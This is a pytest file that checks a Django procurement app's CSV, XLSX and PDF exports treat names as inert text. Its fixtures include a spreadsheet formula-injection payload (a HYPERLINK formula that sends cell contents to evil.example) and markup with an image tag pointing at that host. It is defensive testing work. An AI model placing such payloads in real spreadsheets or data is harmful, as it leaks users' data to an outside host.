"""Names are data in every comparison export: a formula stays text in the CSV and the
XLSX, markup is printed in the PDF (never interpreted, nothing fetched) and any script
renders, through the real export path (view, Celery task, download)."""

import csv
import io
import shutil
import socket
import subprocess

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from apps.core.exports import headers
from apps.procurement.comparison.services import build_comparison
from apps.procurement.exports.content import price_columns
from apps.procurement.exports.pdf import build_pdf
from apps.procurement.exports.spreadsheets import build_csv, build_xlsx
from tests.conftest import ARTIFACTS_DIR
from tests.procurement.test_exports import _export

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
MARKUP = "<font size=40 color=red>APPROVED</font>"
# Today an image tag makes reportlab fetch its source and an unclosed tag stops the build.
SCENARIO_NAME = f'{MARKUP} <img src="http://evil.example/x.png"/> <b>unclosed R&D'
CJK = "训练集群·北京"
CJK_OPTION = f"{CJK} 🚀 H100"
POOL_NAME = "@pool 训练"
# The longest name the database holds, one unbroken word.
LONG_OPTION = "-" + "训练集群北京" * 19 + "x"
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_scenario(scenario, measured_pool):
    scenario.name = SCENARIO_NAME
    scenario.save()
    measured_pool.name = POOL_NAME
    measured_pool.save()
    rent, hybrid = scenario.options.order_by("position")
    rent.name, hybrid.name = FORMULA, CJK_OPTION
    rent.save()
    hybrid.save()
    return scenario


@pytest.fixture
def no_evil_lookups(monkeypatch):
    """Fails the test if anything resolves a host named in the data."""
    resolve = socket.getaddrinfo

    def guarded(host, *args, **kwargs):
        assert "evil.example" not in str(host), f"an export tried to reach {host}"
        return resolve(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", guarded)


def _number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
@pytest.mark.usefixtures("media_root", "eager_celery")
def test_csv_writes_formula_names_as_quoted_text(
    procurement_client,
    hostile_scenario,
    django_capture_on_commit_callbacks,
):
    _, content = _export(
        procurement_client, hostile_scenario, "csv", django_capture_on_commit_callbacks
    )
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:3]] == ["'" + FORMULA, CJK_OPTION]
    inputs = {row[0]: row[1] for row in rows if len(row) == 2}
    assert inputs["Scenario"] == SCENARIO_NAME
    assert inputs["Pool measured"] == "'" + POOL_NAME
    assert "'" + FORMULA in [row[0] for row in rows[rows.index(headers(price_columns("USD"))) :]]
    for row in rows:
        for cell in row:
            # Only a number may start like a formula (a negative one): text never does.
            assert not cell.startswith(FORMULA_TRIGGERS) or _number(cell), cell


@pytest.mark.django_db
@pytest.mark.usefixtures("media_root", "eager_celery")
def test_xlsx_keeps_every_name_a_string_never_a_formula(
    procurement_client,
    hostile_scenario,
    django_capture_on_commit_callbacks,
):
    _, content = _export(
        procurement_client, hostile_scenario, "xlsx", django_capture_on_commit_callbacks
    )
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    comparison = workbook["Comparison"]
    assert [comparison["A2"].value, comparison["A3"].value] == [FORMULA, CJK_OPTION]
    assert comparison["A2"].data_type == "s"
    inputs = {row[0].value: row[1] for row in workbook["Inputs & assumptions"].iter_rows()}
    assert inputs["Scenario"].value == SCENARIO_NAME
    assert inputs["Pool measured"].value == POOL_NAME and inputs["Pool measured"].quotePrefix
    demand_headers = [cell.value for cell in workbook["Demand curve"][1]]
    assert f"{FORMULA}: GPUs needed (GPUs)" in demand_headers


def _pdf_text(content) -> str:
    pages = PdfReader(io.BytesIO(content)).pages
    return " ".join(" ".join(page.extract_text() for page in pages).split())


def _embedded_fonts(content) -> set[str]:
    fonts = set()
    for page in PdfReader(io.BytesIO(content)).pages:
        for font in page["/Resources"]["/Font"].values():
            fonts.add(str(font.get_object()["/BaseFont"]).split("+")[-1])
    return fonts


@pytest.mark.django_db
@pytest.mark.usefixtures("media_root", "eager_celery", "no_evil_lookups")
def test_pdf_prints_markup_and_renders_every_script(
    procurement_client,
    hostile_scenario,
    django_capture_on_commit_callbacks,
):
    _, content = _export(
        procurement_client, hostile_scenario, "pdf", django_capture_on_commit_callbacks
    )
    text = _pdf_text(content)
    assert SCENARIO_NAME in text
    for name in (FORMULA, CJK, POOL_NAME):
        assert name in text
    assert "GPUs needed per hour = ⌈reference GPUs ÷ throughput ratio⌉" in text
    # The glyphs Helvetica lacks come from fonts embedded in the file, so any viewer draws
    # them (a font left to the viewer shows boxes where none is installed).
    assert {"DroidSansFallback", "DejaVuSans"} <= _embedded_fonts(content)
    _render_first_page(content, "procurement-export-names")


@pytest.mark.django_db
def test_every_format_takes_names_longer_than_a_page_column(hostile_scenario, no_evil_lookups):
    option = hostile_scenario.options.get(name=FORMULA)
    option.name = LONG_OPTION
    option.save()
    hostile_scenario.name = ("A 300-character name " + MARKUP + " 北京 ") * 5
    hostile_scenario.name = hostile_scenario.name[:300]
    result = build_comparison(hostile_scenario)

    rows = list(csv.reader(io.StringIO(build_csv(result).decode("utf-8-sig"))))
    assert rows[1][0] == "'" + LONG_OPTION
    assert {row[0]: row[1] for row in rows if len(row) == 2}["Scenario"] == hostile_scenario.name

    sheet = load_workbook(io.BytesIO(build_xlsx(result)))["Comparison"]
    assert sheet["A2"].value == LONG_OPTION and sheet["A2"].data_type == "s"

    content = build_pdf(result)
    text = _pdf_text(content)
    assert "A 300-character name " + MARKUP in text
    assert "训练集群北京" in text
    _render_first_page(content, "procurement-export-long-names")


def _render_first_page(content, name):
    """The first page as a PNG under test-artifacts/pdf/, to look at."""
    if shutil.which("pdftoppm") is None:
        pytest.fail("pdftoppm is missing: make test installs poppler-utils")
    folder = ARTIFACTS_DIR / "pdf"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{name}.pdf").write_bytes(content)
    subprocess.run(
        ["pdftoppm", "-png", "-r", "80", "-f", "1", "-l", "1", "-singlefile"]
        + [str(folder / f"{name}.pdf"), str(folder / name)],
        check=True,
        capture_output=True,
        timeout=60,
    )
    assert (folder / f"{name}.png").stat().st_size > 1000
